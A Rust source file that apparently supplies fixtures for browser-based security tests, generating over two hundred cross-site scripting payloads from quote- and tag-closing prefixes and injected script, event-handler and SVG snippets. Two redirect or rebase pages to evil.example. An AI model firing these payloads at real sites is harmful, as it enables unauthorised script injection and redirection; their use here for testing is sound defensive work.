//! What strangers and careless people write to make a page do something: more than two hundred
//! ways to end a text, an attribute or a comment, and to begin something that runs.

/// How a payload tries to get out of where it stands.
const WAYS_OUT: &[&str] = &[
    "",
    "\"",
    "'",
    "\">",
    "'>",
    "</textarea>",
    "</title>",
    "</script>",
    "</style>",
    "</option></select>",
    "-->",
    "]]>",
    "&quot;>",
    "\u{0}",
    "{{ 7*7 }}",
];

/// What it does when it is out; `hacked` is looked for in the browser.
const WAYS_ON: &[&str] = &[
    "<script>window.hacked=1</script>",
    "<ScRiPt>window.hacked=1</sCrIpT>",
    "<img src=x onerror=window.hacked=1>",
    "<svg onload=window.hacked=1>",
    "<svg><script>window.hacked=1</script></svg>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "<a href=javascript:window.hacked=1>x</a>",
    "<body onpageshow=window.hacked=1>",
    "<details open ontoggle=window.hacked=1>",
    "<input autofocus onfocus=window.hacked=1>",
    " autofocus onfocus=window.hacked=1 x=",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.hacked=1>",
    "<template><script>window.hacked=1</script></template>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=0;url=https://evil.example/>",
    "<style>*{display:none}</style>",
];

/// All of them.
pub fn payloads() -> Vec<String> {
    let on = |out: &'static str| WAYS_ON.iter().map(move |on| format!("{out}{on}"));
    let mut all: Vec<String> = WAYS_OUT.iter().flat_map(|out| on(out)).collect();
    all.extend(
        ["javascript:window.hacked=1", "data:text/html,<script>hacked=1</script>"]
            .map(str::to_owned),
    );
    assert!(all.len() >= 200);
    all
}

/// What would be on a page only if a payload had got out.
#[allow(dead_code)] // the browser asks for something else
pub fn traces() -> Vec<&'static str> {
    WAYS_ON.iter().copied().filter(|on| on.starts_with('<')).collect()
}
